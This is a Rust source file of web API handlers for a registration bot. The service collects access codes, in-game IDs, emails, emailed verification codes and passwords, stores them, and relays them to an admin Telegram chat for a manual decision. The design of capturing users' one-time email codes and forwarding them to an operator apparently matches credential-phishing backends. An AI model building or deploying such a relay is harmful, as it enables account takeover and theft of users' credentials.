//! Registration API handlers.

use std::fmt::Write;

use axum::Json;
use axum::body::Bytes;
use axum::extract::{Path, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use serde::Serialize;
use serde_json::{Map, Value, json};
use tracing::{info, instrument, warn};

use regbot_core::record::value_text;
use regbot_core::{RegistrationPayload, RegistrationStatus};

use crate::routes::AppState;
use crate::telegram::escape_html;
use crate::webhook::decision_keyboard;

/// Alert type used when `notify-admin` callers omit `type`.
pub const DEFAULT_ALERT_TYPE: &str = "email_code_request";

#[derive(Debug, Serialize)]
pub struct NotifyResponse {
    pub ok: bool,
}

#[derive(Debug, Serialize)]
pub struct SubmitResponse {
    pub status: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub uid: Option<String>,
}

/// Parse a request body as a JSON object; anything else counts as `{}`.
pub fn json_object(body: &[u8]) -> Map<String, Value> {
    match serde_json::from_slice(body) {
        Ok(Value::Object(map)) => map,
        _ => Map::new(),
    }
}

fn is_truthy(value: &Value) -> bool {
    match value {
        Value::Null => false,
        Value::Bool(b) => *b,
        Value::Number(n) => n.as_f64().is_some_and(|f| f != 0.0),
        Value::String(s) => !s.is_empty(),
        Value::Array(a) => !a.is_empty(),
        Value::Object(o) => !o.is_empty(),
    }
}

fn field(body: &Map<String, Value>, key: &str) -> String {
    body.get(key).map(value_text).unwrap_or_default()
}

/// Build the free-form alert text for `notify-admin`.
pub fn alert_message(body: &Map<String, Value>) -> String {
    let kind = body
        .get("type")
        .map_or_else(|| DEFAULT_ALERT_TYPE.to_string(), value_text);
    let mut text = format!("\u{1f4e9} REQUEST: {}\n\n", escape_html(&kind));
    for (key, value) in body.iter().filter(|(k, _)| k.as_str() != "type") {
        if is_truthy(value) {
            let _ = writeln!(
                text,
                "<b>{}</b>: {}",
                escape_html(&key.to_uppercase()),
                escape_html(&value_text(value))
            );
        }
    }
    text
}

/// Build the admin message for a new registration. The password is left out.
pub fn registration_message(id: &str, payload: &RegistrationPayload) -> String {
    format!(
        "\u{1f4dd} <b>NEW REGISTRATION</b>\n\
         ID: <code>{id}</code>\n\
         Access code: <code>{access_code}</code>\n\
         In-game ID: <code>{ingame_id}</code>\n\
         Email: <code>{email}</code>\n\
         Email code: <code>{email_code}</code>\n\n\
         Press a button to decide.",
        id = escape_html(id),
        access_code = escape_html(&payload.access_code),
        ingame_id = escape_html(&payload.ingame_id),
        email = escape_html(&payload.email),
        email_code = escape_html(&payload.email_code),
    )
}

/// `POST /api/notify-admin` — forward arbitrary fields to the admin chat.
#[instrument(skip_all)]
pub async fn notify_admin(State(state): State<AppState>, body: Bytes) -> Json<NotifyResponse> {
    let body = json_object(&body);
    let ok = state.notifier.send(&alert_message(&body), None).await;
    info!(ok, fields = body.len(), "Admin alert processed");
    Json(NotifyResponse { ok })
}

/// `POST /api/submit-registration` — persist a pending registration and ask
/// the admin to decide.
///
/// The record is kept even when the notification fails.
#[instrument(skip_all)]
pub async fn submit_registration(State(state): State<AppState>, body: Bytes) -> Response {
    let body = json_object(&body);
    let payload = RegistrationPayload {
        access_code: field(&body, "accessCode"),
        ingame_id: field(&body, "ingameId"),
        email: field(&body, "email"),
        email_code: field(&body, "emailCode"),
        password: field(&body, "password"),
    };

    let id = match state
        .store
        .create(payload.clone(), RegistrationStatus::Pending)
        .await
    {
        Ok(id) => id,
        Err(e) => {
            warn!(error = %e, "Failed to persist registration");
            let resp = SubmitResponse {
                status: "error",
                uid: None,
            };
            return (StatusCode::INTERNAL_SERVER_ERROR, Json(resp)).into_response();
        }
    };

    let ok = state
        .notifier
        .send(
            &registration_message(&id, &payload),
            Some(&decision_keyboard(&id)),
        )
        .await;
    info!(id = %id, notified = ok, "Registration submitted");

    Json(SubmitResponse {
        status: if ok { "pending" } else { "error" },
        uid: Some(id),
    })
    .into_response()
}

/// `GET /api/check-status/{id}` — reports the stored status string as is.
pub async fn check_status(State(state): State<AppState>, Path(id): Path<String>) -> Response {
    match state.store.status(&id).await {
        Ok(status) => Json(json!({ "status": status })).into_response(),
        Err(e) if e.is_not_found() => (
            StatusCode::NOT_FOUND,
            Json(json!({ "status": "not_found" })),
        )
            .into_response(),
        Err(e) => {
            warn!(id = %id, error = %e, "Failed to read registration");
            (
                StatusCode::INTERNAL_SERVER_ERROR,
                Json(json!({ "status": "error" })),
            )
                .into_response()
        }
    }
}

/// `GET /healthz`
pub async fn healthz() -> Json<Value> {
    Json(json!({ "ok": true }))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn json_object_is_lenient() {
        assert!(json_object(b"").is_empty());
        assert!(json_object(b"not json").is_empty());
        assert!(json_object(b"[1, 2]").is_empty());
        assert_eq!(json_object(br#"{"a": "b"}"#)["a"], "b");
    }

    #[test]
    fn alert_message_defaults_type_and_skips_empty_fields() {
        let body = json_object(br#"{"email": "a@b.com", "code": "", "n": 0, "flag": true}"#);
        let text = alert_message(&body);
        assert!(text.starts_with("\u{1f4e9} REQUEST: email_code_request\n\n"));
        assert!(text.contains("<b>EMAIL</b>: a@b.com\n"));
        assert!(text.contains("<b>FLAG</b>: true\n"));
        assert!(!text.contains("CODE"));
        assert!(!text.contains("<b>N</b>"));
    }

    #[test]
    fn alert_message_keeps_body_order_and_omits_type_line() {
        let body =
            json_object(br#"{"zeta": "1", "type": "full_application_fallback", "alpha": "2"}"#);
        let text = alert_message(&body);
        assert!(text.starts_with("\u{1f4e9} REQUEST: full_application_fallback\n\n"));
        assert_eq!(text.matches("<b>").count(), 2);
        let zeta = text.find("ZETA").unwrap();
        let alpha = text.find("ALPHA").unwrap();
        assert!(zeta < alpha);
    }

    #[test]
    fn alert_message_escapes_user_input() {
        let body = json_object(br#"{"note": "<script>"}"#);
        assert!(alert_message(&body).contains("<b>NOTE</b>: &lt;script&gt;"));
    }

    #[test]
    fn registration_message_lists_fields_without_password() {
        let payload = RegistrationPayload {
            access_code: "ABC".into(),
            ingame_id: "5551234".into(),
            email: "a@b.com".into(),
            email_code: "9999".into(),
            password: "hunter2".into(),
        };
        let text = registration_message("reg_0a1b2c3d", &payload);
        assert!(text.contains("ID: <code>reg_0a1b2c3d</code>"));
        assert!(text.contains("Access code: <code>ABC</code>"));
        assert!(text.contains("In-game ID: <code>5551234</code>"));
        assert!(text.contains("Email code: <code>9999</code>"));
        assert!(!text.contains("hunter2"));
    }

    #[test]
    fn field_renders_non_strings() {
        let body = json_object(br#"{"ingameId": 5551234, "email": null}"#);
        assert_eq!(field(&body, "ingameId"), "5551234");
        assert_eq!(field(&body, "email"), "");
        assert_eq!(field(&body, "missing"), "");
    }
}
